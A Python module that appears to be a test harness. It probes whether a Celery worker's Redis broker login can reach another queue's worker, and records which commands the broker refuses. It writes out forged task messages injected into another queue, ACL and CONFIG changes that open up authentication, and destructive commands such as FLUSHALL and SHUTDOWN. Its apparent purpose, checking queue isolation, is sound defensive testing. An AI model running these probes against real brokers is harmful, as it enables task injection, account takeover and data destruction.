"""What a hostile task with its worker's broker login tries, to have code run on another queue's worker.

Each route is named and its answer noted: ``refused`` where the broker says NOPERM, ``done`` where it did as it was
told, else the error's class. It needs celery and redis, and nothing of ours.
"""

from __future__ import annotations

import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from typing import Any

SEP = "\x06\x16"
TASK_RESULT = "celery-task-meta-"
REFUSED, DONE = "refused", "done"
_SECONDS = 0.2


@dataclass(frozen=True)
class Attack:
    """Who tries it on whom.

    :ivar url: the broker, as the hostile task's worker reaches it. :ivar own: its queue.
    :ivar other: the victim's.
    :ivar task: the name of the Celery task that the victim's worker would run; its one argument is the route.
    """

    url: str
    own: str
    other: str
    task: str

    def run(self) -> dict[str, str]:
        """Try every route; its name -> what came of it."""
        return {name: outcome(call) for name, call in self.routes()}

    def routes(self) -> Iterator[tuple[str, Callable[[], Any]]]:
        """Each way that we know."""
        yield from self._by_celery()
        yield from self._by_kombu()
        yield from self._by_lists()
        yield from self._by_keys_of_kombu()
        yield from self._by_channels()
        yield from self._by_the_server()

    # --- with the libraries ---------------------------------------------------------------------------------

    def _by_celery(self) -> Iterator[tuple[str, Callable[[], Any]]]:
        def send(route: str, **where: Any) -> Any:
            return self._app().send_task(self.task, args=[route], retry=False, ignore_result=True, **where)

        ways: dict[str, dict[str, Any]] = {
            "celery: send to the other's queue": {"queue": self.other},
            "celery: send by the other's exchange": {"exchange": self.other, "routing_key": self.other},
            "celery: send with a priority": {"queue": self.other, "priority": 3},
            "celery: send to a name that is the other's list of a priority": {"queue": f"{self.other}{SEP}3"},
            "celery: send to both queues as one name": {"queue": f"{self.own},{self.other}"},
        }  # fmt: skip
        for name, where in ways.items():
            yield name, partial(send, name, **where)
        control: dict[str, dict[str, Any]] = {
            "add_consumer": {"queue": self.own},
            "cancel_consumer": {"queue": self.other},
            "pool_shrink": {"n": 1},
            "revoke": {"task_id": str(uuid.uuid4())},
        }
        for command, arguments in control.items():
            broadcast = partial(self._broadcast, command, arguments)
            yield f"celery: remote control, {command}", broadcast
        yield "celery: remote control, ask all workers", lambda: self._app().control.ping(timeout=_SECONDS)

    def _app(self) -> Any:
        from celery import Celery

        app = Celery("hostile", broker=self.url, backend="disabled://", set_as_current=False)
        app.conf.broker_connection_retry = False
        return app

    def _broadcast(self, command: str, arguments: dict[str, Any]) -> None:
        self._app().control.broadcast(command, arguments=arguments, reply=False)

    def _by_kombu(self) -> Iterator[tuple[str, Callable[[], Any]]]:
        import kombu

        # It has no types.
        library: Any = kombu
        # its names
        Connection, Exchange, Queue = library.Connection, library.Exchange, library.Queue  # noqa: N806

        def declare(queue: Any) -> None:
            with Connection(self.url) as connection:
                queue(connection.default_channel).declare()

        def purge() -> None:
            with Connection(self.url) as connection:
                Queue(self.other, Exchange(""), routing_key=self.other)(connection.default_channel).purge()

        def take() -> None:
            with Connection(self.url) as connection:
                Queue(self.other, Exchange(""), routing_key=self.other)(connection.default_channel).get()

        for kind in ("direct", "topic", "fanout"):
            theirs, mine = Exchange(self.other, kind), Exchange(self.own, kind)
            yield (
                f"kombu: bind its queue to the other's exchange, {kind}",
                partial(declare, Queue(self.own, theirs, routing_key=self.other)),
            )
            yield (
                f"kombu: bind the other's queue to its exchange, {kind}",
                partial(declare, Queue(self.other, mine, routing_key=self.own)),
            )
        yield "kombu: purge the other's queue", purge
        yield "kombu: take from the other's queue", take

    # --- with bare commands ---------------------------------------------------------------------------------

    def _by_lists(self) -> Iterator[tuple[str, Callable[[], Any]]]:
        lists = [self.other, *(f"{self.other}{SEP}{priority}" for priority in (3, 6, 9))]
        for key in lists:
            shown = key.replace(SEP, " priority ")
            for words in self._commands_on(key):
                yield f"{words[0]} on {shown}: {_shown(words)}", partial(self._command, *words)
        yield "MULTI, LPUSH on the other's, EXEC", self._in_transaction
        yield "SELECT 1", partial(self._command, "SELECT", 1)
        yield "SWAPDB 0 1", partial(self._command, "SWAPDB", 0, 1)

    def _commands_on(self, key: str) -> Iterator[tuple[Any, ...]]:
        def message(how: str) -> bytes:
            return self.message(f"{how} on {key.replace(SEP, ' priority ')}")

        own, far = self.own, f"{self.own}-nothing"
        yield from (
            ("LPUSH", key, message("LPUSH")),
            ("RPUSH", key, message("RPUSH")),
            ("LPUSHX", key, message("LPUSHX")),
            ("RPUSHX", key, message("RPUSHX")),
            ("LINSERT", key, "BEFORE", "x", message("LINSERT")),
            ("LSET", key, 0, message("LSET")),
            ("RPOPLPUSH", own, key),
            ("LMOVE", own, key, "RIGHT", "LEFT"),
            ("BLMOVE", own, key, "RIGHT", "LEFT", _SECONDS),
            ("BRPOPLPUSH", own, key, _SECONDS),
            ("COPY", own, key, "REPLACE"),
            ("RENAME", own, key),
            ("RENAMENX", own, key),
            ("RESTORE", key, 0, b"x"),
            ("SORT", own, "BY", "nosort", "STORE", key),
            ("SORT", own, "BY", "nosort", "GET", key),
            ("SET", key, "x"),
            ("GETSET", key, "x"),
            ("APPEND", key, "x"),
            ("BITOP", "NOT", key, own),
            ("SUNIONSTORE", key, far),
            ("ZUNIONSTORE", key, 1, far),
            ("GEOSEARCHSTORE", key, far, "FROMLONLAT", 0, 0, "BYRADIUS", 1, "m"),
            ("PFMERGE", key, far),
            ("XADD", key, "*", "a", "b"),
            ("MIGRATE", "127.0.0.1", 1, key, 0, 10),
            ("MOVE", key, 1),
            ("DEL", key),
            ("UNLINK", key),
            ("LTRIM", key, 1, 0),
            ("EXPIRE", key, 1),
            ("PERSIST", key),
            ("LPOP", key),
            ("RPOP", key),
            ("LMPOP", 1, key, "LEFT"),
            ("BRPOP", key, _SECONDS),
            ("BLPOP", key, _SECONDS),
            ("BRPOP", own, key, _SECONDS),
            ("LRANGE", key, 0, -1),
            ("LINDEX", key, 0),
            ("LLEN", key),
            ("DUMP", key),
            ("TYPE", key),
            ("EXISTS", key),
            ("OBJECT", "ENCODING", key),
            ("MEMORY", "USAGE", key),
            ("WATCH", key),
        )

    def _by_keys_of_kombu(self) -> Iterator[tuple[str, Callable[[], Any]]]:
        """Keys that workers share by default: messages that a worker puts back, and where exchanges lead."""
        tag, long_ago = str(uuid.uuid4()), time.time() - 10**7
        for route, exchange in (("restored", ""), ("restored by exchange", self.other)):
            entry = _json([self._envelope(f"unacked: {route}"), exchange, self.other])
            yield f"unacked: {route}", partial(self._command, "HSET", "unacked", f"{tag}{exchange}", entry)
            yield (
                f"unacked_index: {route}",
                partial(self._command, "ZADD", "unacked_index", long_ago, f"{tag}{exchange}"),
            )
        yield "unacked_mutex: held for ever", partial(self._command, "SET", "unacked_mutex", "x")
        yield "unacked: read", partial(self._command, "HGETALL", "unacked")
        for exchange in (self.own, self.other, "default", "celery.pidbox", "reply.celery.pidbox", "celeryev"):
            for table in ("_kombu.binding.", "_kombu.binding.permanent."):
                key, member = f"{table}{exchange}", SEP.join((self.own, "", self.other))
                yield f"{key}: add the other's queue", partial(self._command, "SADD", key, member)
                yield f"{key}: read", partial(self._command, "SMEMBERS", key)
        yield "results: a name by which nobody is", partial(self._command, "SET", f"{TASK_RESULT}x", "x")
        yield "results: list by KEYS", partial(self._command, "KEYS", f"{TASK_RESULT}*")
        yield "results: list by SCAN", partial(self._command, "SCAN", 0, "MATCH", f"{TASK_RESULT}*")
        yield "results: delete", partial(self._command, "DEL", f"{TASK_RESULT}x")

    def _by_channels(self) -> Iterator[tuple[str, Callable[[], Any]]]:
        box = _json({"method": "add_consumer", "arguments": {"queue": self.own}, "destination": None})
        for channel in (
            "/0.celery.pidbox", "/{db}.celery.pidbox", f"/{self.other}.celery.pidbox", "/0.reply.celery.pidbox",
            "/0.celeryev/task.sent", "/0.celeryev", self.other, "__keyspace@0__:x",
        ):  # fmt: skip
            yield f"PUBLISH {channel}", partial(self._command, "PUBLISH", channel, box)
        yield "SPUBLISH /0.celery.pidbox", partial(self._command, "SPUBLISH", "/0.celery.pidbox", box)
        for command in ("SUBSCRIBE", "PSUBSCRIBE", "SSUBSCRIBE"):
            for channel in (f"{TASK_RESULT}*", "/0.celeryev/worker.*", "*"):
                yield f"{command} {channel}", partial(self._command, command, channel)

    def _by_the_server(self) -> Iterator[tuple[str, Callable[[], Any]]]:
        script = f"return redis.call('LPUSH', '{self.other}', ARGV[1])"
        library = f"#!lua name=h\nredis.register_function('h', function() {script} end)"
        commands: tuple[tuple[Any, ...], ...] = (
            ("EVAL", script, 0, self.message("EVAL")),
            ("EVAL", script, 1, self.own, self.message("EVAL with its own key")),
            ("EVAL_RO", "return 1", 0),
            ("EVALSHA", "0" * 40, 0),
            ("SCRIPT", "LOAD", script),
            ("SCRIPT", "FLUSH"),
            ("FUNCTION", "LOAD", library),
            ("FCALL", "h", 0),
            ("MODULE", "LIST"),
            ("CONFIG", "GET", "*"),
            ("CONFIG", "SET", "requirepass", "x"),
            ("CONFIG", "REWRITE"),
            ("ACL", "LIST"),
            ("ACL", "GETUSER", "scheduler"),
            ("ACL", "SETUSER", "default", "on", "nopass", "+@all", "~*"),
            ("ACL", "LOAD"),
            ("ACL", "LOG"),
            ("AUTH", "scheduler", "x"),
            ("AUTH", "default", ""),
            ("FLUSHALL",),
            ("FLUSHDB",),
            ("KEYS", "*"),
            ("SCAN", 0),
            ("RANDOMKEY",),
            ("DBSIZE",),
            ("INFO",),
            ("MONITOR",),
            ("CLIENT", "LIST"),
            ("CLIENT", "KILL", "TYPE", "normal"),
            ("CLIENT", "PAUSE", 1),
            ("CLIENT", "TRACKING", "ON", "BCAST"),
            ("PUBSUB", "CHANNELS"),
            ("SLOWLOG", "GET"),
            ("REPLICAOF", "NO", "ONE"),
            ("PSYNC", "?", -1),
            ("SAVE",),
            ("BGREWRITEAOF",),
            ("LATENCY", "RESET"),
            ("SHUTDOWN", "NOSAVE", "NOW"),
        )
        for words in commands:
            yield " ".join(_shown(words).split()[:4]), partial(self._command, *words)

    def _command(self, *words: Any) -> Any:
        import redis

        # Each with a connection of its own: some of these commands leave one in another state.
        with redis.Redis.from_url(self.url, socket_timeout=5, protocol=2) as client:
            return client.execute_command(*words)

    def _in_transaction(self) -> None:
        import redis

        with redis.Redis.from_url(self.url, socket_timeout=5) as client, client.pipeline() as pipe:
            pipe.lpush(self.own, self.message("own"))
            pipe.lpush(self.other, self.message("MULTI, LPUSH on the other's, EXEC"))
            pipe.execute()

    # --- messages -------------------------------------------------------------------------------------------

    def message(self, route: str) -> bytes:
        """Return what kombu would put into the list of the victim's queue."""
        return _json(self._envelope(route)).encode()

    def _envelope(self, route: str) -> dict[str, Any]:
        import base64

        task_id = str(uuid.uuid4())
        body = _json([[route], {}, {"callbacks": None, "errbacks": None, "chain": None, "chord": None}])
        return {
            "body": base64.b64encode(body.encode()).decode(),
            "content-encoding": "utf-8",
            "content-type": "application/json",
            "headers": {"lang": "py", "task": self.task, "id": task_id, "root_id": task_id, "retries": 0},
            "properties": {
                "correlation_id": task_id, "delivery_mode": 2, "body_encoding": "base64", "priority": 0,
                "delivery_info": {"exchange": "", "routing_key": self.other},
                "delivery_tag": str(uuid.uuid4()),
            },
        }  # fmt: skip


def outcome(call: Callable[[], Any]) -> str:
    """Return what came of it, in one word."""
    import redis

    try:
        call()
    except Exception as error:  # noqa: BLE001  # an attacker takes what comes
        cause: BaseException | None = error
        while cause is not None:
            if isinstance(cause, redis.exceptions.NoPermissionError):
                return REFUSED
            if isinstance(cause, redis.exceptions.AuthenticationError):
                return "not the password"
            cause = cause.__cause__ or cause.__context__
        return f"{type(error).__name__}: {error}"
    return DONE


def _json(value: Any) -> str:
    import json

    return json.dumps(value)


def _shown(words: tuple[Any, ...]) -> str:
    return " ".join(word if isinstance(word, str) else "..." for word in words).replace(SEP, " priority ")[:120]
